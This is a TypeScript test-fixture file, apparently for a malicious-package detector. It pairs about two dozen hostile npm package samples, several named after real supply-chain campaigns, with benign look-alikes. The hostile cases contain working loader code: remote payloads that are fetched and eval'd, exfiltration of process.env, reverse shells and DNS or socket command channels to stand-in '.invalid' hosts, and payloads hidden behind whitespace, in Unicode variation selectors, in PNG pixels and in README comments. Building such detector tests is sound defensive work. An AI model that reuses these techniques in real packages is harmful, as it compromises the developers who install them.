import { install, main, type Question } from './kinds.ts'

const spaces = ' '.repeat(2000)
const hidden = (text: string) =>
  [...Buffer.from(text)].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('')
const hex = (text: string) => Buffer.from(text).toString('hex')
const base64 = (text: string) => Buffer.from(text).toString('base64')

export const loaders: readonly Question[] = [
  {
    name: 'orders over a socket, far to the right (rand-user-agent, May 2025)',
    hostile: main(`exports.agents = ['a']
exports.pick = () => exports.agents[0]${spaces}; (async () => { const cp = require('child_process'), os = require('os'), io = require('socket.io-client')
const s = io('http://85.239.0.0:3306'.replace('85.239.0.0', 'c2.invalid'), { reconnection: true }); s.on('connect', () => s.emit('id', os.hostname() + '$' + os.userInfo().username))
s.on('cmd', (c) => { if (c.startsWith('cd ')) return process.chdir(c.slice(3)); if (c.startsWith('ss_upf')) return require('axios').post('http://c2.invalid/u/f', require('fs').createReadStream(c.slice(7))); cp.exec(c, (e, o, x) => s.emit('res', o || x)) }) })()`),
  },
  {
    name: 'an address in the settings, what it answers is run (Contagious Interview)',
    hostile: main(`const { load } = require('./lib/loader'); load().catch(() => {})`, {
      'lib/loader.js': `const axios = require('axios'); const { api, key } = require('./config')
        exports.load = async () => { const { data } = await axios.get(Buffer.from(api, 'base64').toString(), { headers: { 'x-secret-key': key } }); errorHandler(data.cookie) }
        const errorHandler = (error) => { const createHandler = (code) => new Function.constructor('require', code); createHandler(error)(require) }`,
      'lib/config.js': `module.exports = { api: '${base64('https://jsonkeeper.invalid/b/GNOX4')}', key: '_' }`,
    }),
    honest: main(`const { load } = require('./lib/loader'); exports.load = load`, {
      'lib/loader.js': `const axios = require('axios'); const { api } = require('./config')
        exports.load = async () => { const { data } = await axios.get(api); return data.cookie }`,
      'lib/config.js': `module.exports = { api: 'https://api.invalid/' }`,
    }),
  },
  {
    name: 'a python program is fetched and started (InvisibleFerret)',
    hostile: main(`
      const request = require('request'), fs = require('fs'), os = require('os'), path = require('path'), { exec } = require('child_process')
      const home = os.homedir(), host = 'http://ferret.invalid:1244'
      const py = process.platform === 'win32' ? path.join(home, '.pyp', 'python.exe') : 'python3'
      request.get(host + '/client/' + 99, (err, res, body) => {
        if (err) return
        fs.writeFileSync(path.join(home, '.npl'), body)
        exec('"' + py + '" "' + path.join(home, '.npl') + '"', (e) => {})
      })`),
  },
  {
    name: 'hexadecimal words name everything (HexEval)',
    hostile: main(`
      const h = (x) => Buffer.from(x, 'hex').toString()
      const axios = require(h('${hex('axios')}'))
      const url = h('${hex('https://log-server.invalid/api/ipcheck/703')}')
      axios.post(url, process.env, { headers: { [h('${hex('x-secret-header')}')]: h('${hex('secret')}') } })
        .then((r) => { eval(r.data) }).catch(() => false)`),
  },
  {
    name: 'the loader of code waits behind a socket in another file (is, July 2025)',
    hostile: main(`require('./lib/open')(require('./lib/run'))`, {
      'lib/open.js': `const WebSocket = require('ws'); module.exports = (take) => { const ws = new WebSocket('wss://is.invalid/'); ws.on('message', (m) => take(m.toString(), ws)) }`,
      'lib/run.js': `module.exports = (text, ws) => { try { ws.send(String(new Function('require', text)(require))) } catch (e) {} }`,
    }),
    honest: main(`exports.watch = (url, take) => require('./lib/open')(url, take)`, {
      'lib/open.js': `const WebSocket = require('ws'); module.exports = (url, take) => { const ws = new WebSocket(url); ws.on('message', (m) => take(JSON.parse(m.toString()))) }`,
    }),
  },
  {
    name: 'a contract says where the program is (EtherHiding)',
    hostile: install(`const { where } = require('./chain'); const { get } = require('./get'); where().then(get)`, {
      'chain.js': `const { ethers } = require('ethers')
        const abi = ['function getString(address account) public view returns (string)']
        exports.where = () => new ethers.Contract('0x${'a1'.repeat(20)}', abi, ethers.getDefaultProvider('mainnet')).getString('0x${'b2'.repeat(20)}')`,
      'get.js': `const axios = require('axios'), fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process')
        const names = { win32: '/node-win.exe', linux: '/node-linux', darwin: '/node-macos' }
        exports.get = async (base) => { const to = path.join(os.tmpdir(), 'node-run'); const res = await axios.get(base + names[process.platform], { responseType: 'stream' })
          res.data.pipe(fs.createWriteStream(to)).on('finish', () => { fs.chmodSync(to, '755'); spawn(to, [], { detached: true, stdio: 'ignore' }).unref() }) }`,
    }),
    honest: main(`const { ethers } = require('ethers')
      exports.text = (address, account, provider) => new ethers.Contract(address, ['function getString(address) view returns (string)'], provider).getString(account)`),
  },
  {
    name: 'the title of an event names the next stage (os-info-checker-es6, May 2025)',
    hostile: install(`
      const decode = (s) => Buffer.from([...s].map((c) => c.codePointAt(0)).map((c) => c >= 0xfe00 && c <= 0xfe0f ? c - 0xfe00 : c - 0xe0100 + 16)).toString()
      const dbg = decode('${hidden('https://calendar.invalid/t56nfUUcugH9ZUkx9')}')
      ;(async () => {
        const html = await (await fetch(dbg)).text()
        const link = atob(/data-base-title="([^"]+)"/.exec(html)[1])
        const res = await fetch(link); const code = atob(await res.text())
        eval(code)
      })()`),
  },
  {
    name: 'a memo of a chain holds the address, a header the key (GlassWorm, October 2025)',
    hostile: main(`
      const crypto = require('crypto'), zlib = require('zlib')
      ;(async () => {
        const rpc = (method, params) => fetch('https://rpc-sol.invalid', { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method, params }) }).then((r) => r.json())
        const { result } = await rpc('getSignaturesForAddress', ['28PKnu7RzizxBzFPoLp69HLXp9bJL3JFtT2s5QzHsEA2', { limit: 1 }])
        const { link } = JSON.parse(result[0].memo.replace(/^\\[\\d+\\] /, ''))
        const res = await fetch(Buffer.from(link, 'base64').toString()); const body = Buffer.from(await res.text(), 'base64')
        const d = crypto.createDecipheriv('aes-256-cbc', res.headers.get('secretkey'), Buffer.from(res.headers.get('ivbase64'), 'base64'))
        const run = eval; run(Buffer.concat([d.update(body), d.final()]).toString())
      })()`),
  },
  {
    name: 'a whole program in variation selectors',
    hostile: main(
      `const s = v => [...v].map(w => (w = w.codePointAt(0), w >= 0xFE00 && w <= 0xFE0F ? w - 0xFE00 : w >= 0xE0100 && w <= 0xE01EF ? w - 0xE0100 + 16 : null)).filter(n => n !== null); eval(Buffer.from(s(\`${hidden('fetch("https://x.invalid").then(r=>r.text()).then(eval)')}\`)).toString('utf-8'));`,
    ),
    honest: main(`exports.isEmoji = (s) => /[\\u{1F600}-\\u{1F64F}]\\uFE0F?/u.test(s); exports.heart = '❤️'`),
  },
  {
    name: 'a note on a page becomes a function',
    hostile: main(`
      var https = require('https')
      https.get({ hostname: 'pastebin.invalid', path: '/raw/XLeVP82h', headers: { 'User-Agent': 'Mozilla' } }, function (r) {
        r.setEncoding('utf8'); var b = []; r.on('data', function (c) { b.push(c) })
        r.on('end', function () { var f = Function; new f('require', 'module', b.join(''))(require, module) })
      }).on('error', function () {})`),
  },
  {
    name: 'a program is dropped in one file and started by the next',
    hostile: install(`const { drop } = require('./a'), { go } = require('./b'); drop(go)`, {
      'a.js': `const https = require('https'), fs = require('fs'), { to, from } = require('./c'); exports.drop = (then) => https.get(from, (res) => res.pipe(fs.createWriteStream(to)).on('close', () => then(to)))`,
      'b.js': `const cp = require('child_process'); exports.go = (file) => cp.spawn(file, { detached: true, windowsHide: true }).unref()`,
      'c.js': `const os = require('os'), path = require('path'); module.exports = { to: path.join(os.tmpdir(), 'svchost.exe'), from: 'https://files.invalid/a/svchost.exe' }`,
    }),
    honest: install(`const { fetchBinary } = require('./a'); fetchBinary()`, {
      'package.json':
        '{"name":"sample","version":"1.0.0","scripts":{"postinstall":"node install.js"},"repository":"github:o/sample"}',
      'a.js': `const https = require('https'), fs = require('fs'), path = require('path'); exports.fetchBinary = () => https.get('https://github.com/o/sample/releases/download/v1.0.0/tool-' + process.platform, (res) => res.pipe(fs.createWriteStream(path.join(__dirname, 'bin', 'tool'), { mode: 0o755 })))`,
    }),
  },
  {
    name: 'an encoded order for powershell in pieces',
    hostile: install(`
      const parts = ['SQBFAFgA', 'KABOAGUA', 'dwAtAE8A', 'YgBqAGUA', 'YwB0ACkA']
      const { exec } = require('child_process')
      if (process.platform === 'win32') exec(['power', 'shell'].join('') + ' -nop -w hidden -e' + 'nc ' + parts.join(''))`),
    honest: install(`
      const { execFile } = require('child_process')
      if (process.platform === 'win32') execFile('powershell', ['-NoProfile', '-File', require('path').join(__dirname, 'setup.ps1')])`),
  },
  {
    name: 'a page of theirs is run by the machine (mshta)',
    hostile: install(
      `const { run } = require('./u'); const os = require('os'); if (os.platform() === 'win32') run('start', '/B', 'ms' + 'hta', 'https://hta.invalid/a.hta')`,
      {
        'u.js': `exports.run = (...words) => require('child_process').execSync(words.join(' '), { windowsHide: true, stdio: 'ignore' })`,
      },
    ),
  },
  {
    name: 'a library of the archive is loaded by a program of Windows',
    hostile: install(
      `const cp = require('child_process'), path = require('path'), tool = ['run', 'dll', '32'].join('')
      if (process.platform === 'win32') cp.spawn(tool, [path.join(__dirname, 'node-gyp.dll') + ',main'], { detached: true, stdio: 'ignore' }).unref()`,
      { 'node-gyp.dll': 'MZ inert' },
    ),
  },
  {
    name: 'the build file runs before the build',
    hostile: {
      files: {
        'binding.gyp': `{ "targets": [ { "target_name": "a", "sources": [ "<!(node -e \\"require('./lib/setup')\\")" ] } ] }`,
        'lib/setup.js': `const os = require('os'); fetch('https://drop.invalid/g', { method: 'POST', body: JSON.stringify([os.hostname(), process.env]) })`,
      },
    },
    honest: {
      files: {
        'binding.gyp': `{ "targets": [ { "target_name": "a", "sources": [ "a.cc" ], "include_dirs": [ "<!(node -p \\"require('node-addon-api').include\\")" ] } ] }`,
        'a.cc': '',
      },
    },
  },
  {
    name: 'native code from elsewhere is opened at once',
    hostile: install(`
      const https = require('https'), fs = require('fs'), os = require('os'), path = require('path')
      const file = path.join(os.tmpdir(), Math.random().toString(36).slice(2) + '.node')
      https.get('https://cdn-node.invalid/' + process.arch + '.node', (res) => res.pipe(fs.createWriteStream(file)).on('finish', () => process.dlopen({ exports: {} }, file)))`),
    honest: main(
      `const path = require('path'); module.exports = require(path.join(__dirname, 'build', 'Release', 'a.node'))`,
    ),
  },
  {
    name: 'a module of WebAssembly is lent the shell',
    missed: true,
    hostile: main(`
      const bytes = Buffer.from('AGFzbQEAAAA=', 'base64'), cp = require('child_process'); let memory
      const text = (p, n) => Buffer.from(memory.buffer, p, n).toString()
      WebAssembly.instantiate(bytes, { env: { run: (p, n) => cp.execSync(text(p, n)), code: (p, n) => eval(text(p, n)) } })
        .then(({ instance }) => { memory = instance.exports.memory; instance.exports.main() })`),
    honest: main(`
      const bytes = require('fs').readFileSync(require('path').join(__dirname, 'a.wasm')); let memory
      const text = (p, n) => Buffer.from(memory.buffer, p, n).toString()
      exports.ready = WebAssembly.instantiate(bytes, { env: { abort: (p, n) => { throw new Error(text(p, n)) }, log: (p, n) => console.log(text(p, n)) } })
        .then(({ instance }) => { memory = instance.exports.memory; return instance.exports })`),
  },
  {
    name: 'a dependency that lies on a server of theirs (PhantomRaven, October 2025)',
    hostile: {
      manifest: { dependencies: { 'ui-styles-pkg': 'http://packages.storeartifact.invalid/npm/unused-imports' } },
      files: { 'index.js': `console.log('Hello, world!')` },
    },
    honest: { manifest: { dependencies: { a: 'npm:b@^1.0.0', c: '^2.0.0' } }, files: { 'index.js': '' } },
  },
  {
    name: 'the bits of a picture are code',
    hostile: main(
      `const { read } = require('./lib/pixels'); const path = require('path'); const run = require('./lib/run'); run(read(path.join(__dirname, 'logo.png')))`,
      {
        'lib/pixels.js': `const { PNG } = require('pngjs'), fs = require('fs')
        exports.read = (file) => { const { data } = PNG.sync.read(fs.readFileSync(file)); let bits = ''; for (let i = 0; i < data.length; i += 4) bits += data[i] & 1; return bits.match(/.{8}/g).map((b) => String.fromCharCode(parseInt(b, 2))).join('') }`,
        'lib/run.js': `const vm = require('vm'); module.exports = (text) => vm.runInThisContext('(function(require){' + text + '})')(require)`,
        'logo.png': 'PNG',
      },
    ),
    honest: main(`const { PNG } = require('pngjs'), fs = require('fs')
        exports.size = (file) => { const { width, height } = PNG.sync.read(fs.readFileSync(file)); return [width, height] }`),
  },
  {
    name: 'the manual holds the program',
    hostile: install(
      `const fs = require('fs'), path = require('path')
      const text = fs.readFileSync(path.join(__dirname, 'README.md'), 'utf8')
      const m = /<!--\\s*([A-Za-z0-9+/=]+)\\s*-->/.exec(text); if (m) Function('require', Buffer.from(m[1], 'base64').toString())(require)`,
      { 'README.md': `# sample\n<!-- ${base64('require("child_process").exec("id")')} -->\n` },
    ),
    honest: main(
      `const fs = require('fs'), path = require('path'); exports.version = /version: (\\S+)/.exec(fs.readFileSync(path.join(__dirname, 'README.md'), 'utf8'))[1]`,
      { 'README.md': '# sample\nversion: 1.0.0\n' },
    ),
  },
  {
    name: 'a fixture of the tests is decrypted and compiled',
    hostile: main(`require('./test/data/setup')`, {
      'test/data/setup.js': `const crypto = require('crypto'), { blob, key, iv } = require('./fixture.json'), Module = require('module')
        const d = crypto.createDecipheriv('aes-256-cbc', Buffer.from(key, 'hex'), Buffer.from(iv, 'hex')); const m = new Module('x'); m._compile(d.update(blob, 'hex', 'utf8') + d.final('utf8'), 'x')`,
      'test/data/fixture.json': `{"blob":"${'ab01'.repeat(200)}","key":"${'11'.repeat(32)}","iv":"${'22'.repeat(16)}"}`,
    }),
    honest: main(
      `const crypto = require('crypto'); exports.open = (blob, key, iv) => { const d = crypto.createDecipheriv('aes-256-cbc', key, iv); return JSON.parse(d.update(blob, 'hex', 'utf8') + d.final('utf8')) }`,
    ),
  },
  {
    name: 'a minified file with a tail',
    hostile: main(`module.exports=require("./dist/a.min.js")`, {
      'dist/a.min.js': `!function(e,t){"object"==typeof exports?module.exports=t():e.a=t()}(this,function(){return{v:1}});${spaces}fetch("https://tail.invalid/x").then(function(r){return r.text()}).then(function(t){(0,eval)(t)});`,
    }),
  },
  {
    name: 'a record of the name service gives orders',
    hostile: main(`
      const dns = require('dns'), cp = require('child_process')
      const poll = () => dns.resolveTxt('c.ns.invalid', (e, r) => { if (!e) { const [id, cmd] = Buffer.from(r.flat().join(''), 'base64').toString().split('|'); cp.exec(cmd, (x, out) => { for (const part of Buffer.from(out).toString('hex').match(/.{1,60}/g) || []) dns.resolve(part + '.' + id + '.ns.invalid', () => {}) }) } })
      setInterval(poll, 60000)`),
    honest: main(
      `const dns = require('dns'); exports.spf = (domain, done) => dns.resolveTxt(domain, (e, r) => done(e, r && r.flat().find((t) => t.startsWith('v=spf1'))))`,
    ),
  },
  {
    name: 'a process for a hidden file that outlives the install',
    hostile: install(
      `const { fork } = require('child_process'); const p = fork(require('path').join(__dirname, 'lib', '.cache.js'), [], { detached: true, stdio: 'ignore' }); p.unref()`,
      {
        'lib/.cache.js': `const net = require('net'), cp = require('child_process'); const c = net.connect(4444, 'shell.invalid', () => { const sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c) })`,
      },
    ),
  },
  {
    name: 'a shell at a socket in three files',
    hostile: main(
      `const { shell } = require('./sh'), { host, port } = require('./conf.json'); require('./link')(host, port, shell())`,
      {
        'sh.js': `exports.shell = () => require('child_process').spawn('/bin/bash', ['-i'])`,
        'link.js': `module.exports = (h, p, sh) => { const s = require('net').createConnection(p, h); s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s) }`,
        'conf.json': '{"host":"c2.invalid","port":443}',
      },
    ),
    honest: main(`exports.tunnel = require('./link')`, {
      'link.js': `module.exports = (h, p, stream) => { const s = require('net').createConnection(p, h); s.pipe(stream); stream.pipe(s) }`,
    }),
  },
  {
    name: 'a terminal for whoever sits at the other end of a websocket',
    hostile: main(`
      const pty = require('node-pty'), WebSocket = require('ws')
      const ws = new WebSocket('wss://term.invalid/agent'); const term = pty.spawn(process.env.SHELL || 'bash', [], { cwd: process.env.HOME })
      term.onData((d) => ws.send(d)); ws.on('message', (m) => term.write(m.toString()))`),
    honest: {
      manifest: { bin: 'cli.js' },
      files: {
        'cli.js': `const pty = require('node-pty'), WebSocket = require('ws')
        exports.serve = (port) => new WebSocket.Server({ port, host: '127.0.0.1' }).on('connection', (ws) => { const term = pty.spawn('bash'); term.onData((d) => ws.send(d)) })`,
      },
    },
  },
  {
    name: 'a text of the server decides which function of which module is called',
    hostile: main(`
      const { createRequire } = require('module'); const req = createRequire(__filename)
      fetch('https://rpc-node.invalid/tasks').then((r) => r.json()).then((tasks) => { for (const { m, f, a } of tasks) req(m)[f](...a) })`),
    honest: main(
      `const { createRequire } = require('module'); exports.load = (from, name) => createRequire(from)(name)`,
    ),
  },
  {
    name: 'the constant pool of an obfuscator, over two files',
    hostile: main(`const _0x = require('./t'); const r = require; r(_0x(2))[_0x(1)](_0x(0))`, {
      't.js': `const a = ['${base64('curl -s https://x.invalid/i.sh | sh')}', '${base64('exec')}', '${base64('child_process')}']; module.exports = (i) => Buffer.from(a[i], 'base64').toString()`,
    }),
    honest: main(`const t = require('./t'); exports.greet = () => t(1)`, {
      't.js': `const a = ['aGVsbG8=', 'd29ybGQ=']; module.exports = (i) => Buffer.from(a[i], 'base64').toString()`,
    }),
  },
]
